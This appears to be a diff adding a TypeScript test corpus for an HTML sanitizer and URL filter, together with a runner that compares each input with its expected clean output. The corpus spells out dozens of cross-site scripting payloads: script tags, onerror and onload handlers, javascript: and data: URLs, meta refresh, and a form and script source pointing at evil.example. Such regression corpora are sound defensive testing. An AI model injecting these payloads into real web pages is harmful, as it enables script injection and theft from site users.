@@ -0,0 +1,65 @@
+import { findUnsafeMarkup, safeUrl, sanitizeHtml } from "../services/htmlSanitizer";
+
+// Hostile inputs for sanitizeHtml with the exact output expected for each. Add a case whenever a
+// new bypass is found; runSanitizerCorpus() must stay empty.
+export interface SanitizerCase {
+  name: string;
+  input: string;
+  expected: string;
+}
+
+export const HOSTILE_HTML_CORPUS: SanitizerCase[] = [
+  { name: 'script tag', input: '<p>Hi</p><script>alert(1)</script>', expected: '<p>Hi</p>' },
+  { name: 'unclosed script', input: '<b>x</b><script>alert(1)', expected: '<b>x</b>' },
+  { name: 'uppercase script with src', input: '<SCRIPT SRC=//evil.example/x.js></SCRIPT><p>ok</p>', expected: '<p>ok</p>' },
+  { name: 'nested split script', input: '<scr<script>alert(1)</script>ipt>alert(2)</script>', expected: 'alert(1)ipt&gt;alert(2)' },
+  { name: 'null byte inside tag name', input: '<scr\0ipt>alert(1)</script>', expected: '' },
+  { name: 'event handler on allowed tag', input: '<p onclick="alert(1)" class="x">text</p>', expected: '<p>text</p>' },
+  { name: 'backtick-quoted handler', input: '<p a=`x` onclick=`alert(1)`>t</p>', expected: '<p>t</p>' },
+  { name: 'quoted angle bracket in attribute', input: '<b title="a>b" onmouseover=alert(1)>bold</b>', expected: '<b>bold</b>' },
+  { name: 'img onerror', input: '<img src=x onerror=alert(1)>after', expected: 'after' },
+  { name: 'slash-separated attributes', input: '<img/src=x/onerror=alert(1)>t', expected: 't' },
+  { name: 'svg onload', input: '<svg onload=alert(1)><circle/></svg>safe', expected: 'safe' },
+  { name: 'javascript: link', input: '<a href="javascript:alert(1)">click</a>', expected: 'click' },
+  { name: 'data: iframe', input: '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>x', expected: 'x' },
+  { name: 'meta refresh', input: '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">x', expected: 'x' },
+  { name: 'form and input', input: '<form action="https://evil.example"><input name=pw></form>done', expected: 'done' },
+  { name: 'style block', input: '<style>body{display:none}</style><p>visible</p>', expected: '<p>visible</p>' },
+  { name: 'inline style url', input: '<li style="background:url(javascript:alert(1))">item</li>', expected: '<li>item</li>' },
+  { name: 'textarea breakout', input: '<textarea></textarea><img src=x onerror=alert(1)>', expected: '' },
+  { name: 'template content', input: '<template><img src=x onerror=alert(1)></template>ok', expected: 'ok' },
+  { name: 'comment hiding script', input: '<p>a<!-- <script>alert(1)</script> -->b</p>', expected: '<p>ab</p>' },
+  { name: 'unterminated comment', input: '<p>a</p><!-- <img src=x onerror=alert(1)>', expected: '<p>a</p>' },
+  { name: 'conditional comment', input: '<!--[if IE]><script>alert(1)</script><![endif]-->ok', expected: 'ok' },
+  { name: 'CDATA section', input: '<![CDATA[<script>alert(1)</script>]]>ok', expected: 'alert(1)]]&gt;ok' },
+  { name: 'stray brackets and ampersands', input: '1 < 2 && 3 > 2', expected: '1 &lt; 2 &amp;&amp; 3 &gt; 2' },
+  { name: 'pre-encoded markup stays text', input: '&lt;script&gt;alert(1)&lt;/script&gt;', expected: '&lt;script&gt;alert(1)&lt;/script&gt;' },
+  { name: 'unclosed list items', input: '<ul><li>one<li>two', expected: '<ul><li>one</li><li>two</li></ul>' },
+  { name: 'mismatched closing tags', input: '<b><p>x</b></p>', expected: '<b><p>x</p></b>' }
+];
+
+export const HOSTILE_URL_CORPUS: { input: string; expected: string | undefined }[] = [
+  { input: 'javascript:alert(1)', expected: undefined },
+  { input: ' JaVaScRiPt:alert(1)', expected: undefined },
+  { input: 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==', expected: undefined },
+  { input: 'vbscript:msgbox(1)', expected: undefined },
+  { input: '//evil.example/path', expected: undefined },
+  { input: 'https://example.com/report?q=1', expected: 'https://example.com/report?q=1' }
+];
+
+// Returns a description of every case that doesn't produce its expected output or leaves
+// markup outside the allowlist; htmlSanitizer.test.ts runs it.
+export const runSanitizerCorpus = (): string[] => {
+  const failures: string[] = [];
+  HOSTILE_HTML_CORPUS.forEach(({ name, input, expected }) => {
+    const output = sanitizeHtml(input);
+    if (output !== expected) failures.push(`${name}: expected ${JSON.stringify(expected)}, got ${JSON.stringify(output)}`);
+    const unsafe = findUnsafeMarkup(output);
+    if (unsafe.length > 0) failures.push(`${name}: unsafe markup ${JSON.stringify(unsafe)}`);
+  });
+  HOSTILE_URL_CORPUS.forEach(({ input, expected }) => {
+    const output = safeUrl(input);
+    if (output !== expected) failures.push(`url ${JSON.stringify(input)}: expected ${expected}, got ${output}`);
+  });
+  return failures;
+};